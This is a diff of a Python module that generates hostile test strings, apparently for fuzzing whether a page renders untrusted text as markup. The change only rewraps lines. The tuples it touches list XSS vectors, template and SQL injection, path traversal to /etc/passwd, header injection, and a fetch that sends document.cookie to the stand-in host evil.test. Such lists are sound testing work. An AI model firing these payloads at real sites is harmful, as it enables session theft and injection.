@@ -1,7 +1,7 @@
 """Texts that would run if any page took them for markup, made by rule.
 
-`SIGHTLINE_HOSTILE` makes more of them: `all` is every text the rules make, a number is how many, and
-the name of a file adds its lines, so that lists of others can be tried as well.
+`SIGHTLINE_HOSTILE` makes more of them: `all` is every text the rules make, a number is how many,
+and the name of a file adds its lines, so that lists of others can be tried as well.
 """
 
 from __future__ import annotations
@@ -50,19 +50,22 @@ DEEDS = (
     "fetch('//evil.test/'+document.cookie)",
 )
 WHOLE = (
-    "<script>alert(1)</script>", "<script src=//evil.test/x.js></script>", "<scr<script>ipt>alert(1)",
+    "<script>alert(1)</script>", "<script src=//evil.test/x.js></script>",
+    "<scr<script>ipt>alert(1)",
     "<base href=//evil.test/>", "<meta http-equiv=refresh content='0;url=//evil.test/'>",
     "<link rel=stylesheet href=//evil.test/x.css>", "<style>@import '//evil.test/x.css'</style>",
     "<iframe srcdoc='<script>alert(1)</script>'>", "<embed src=//evil.test/x>",
     "<a href='javascript:alert(1)'>x</a>", "[x](javascript:alert(1))", "javascript:alert(1)",
     "data:text/html,<script>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}",
-    "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "{% include 'x' %}", "__proto__", "constructor",
+    "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "{% include 'x' %}", "__proto__",
+    "constructor",
     "toString", "null", "undefined", "true", "NaN", "-1", "1e309", "' OR 1=1 --", "'; DROP TABLE x",
     "../../etc/passwd", "%00%0d%0aSet-Cookie: x=1", "a\u202egnp.exe", "\ufeffx", "x\u0301" * 20,
     "<img src='//evil.test/x.png'>", "<svg><use href='//evil.test/x.svg#x'>", "<plaintext>", "<!--",
     "<template><img src=x onerror=alert(1)></template>", "<noscript><img src=x onerror=alert(1)>",
     "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "&lt;script&gt;",
-    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(1)", "<\u017fcript>alert(1)",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(1)",
+    "<\u017fcript>alert(1)",
     "＜script＞alert(1)＜/script＞",
 )  # fmt: skip
 
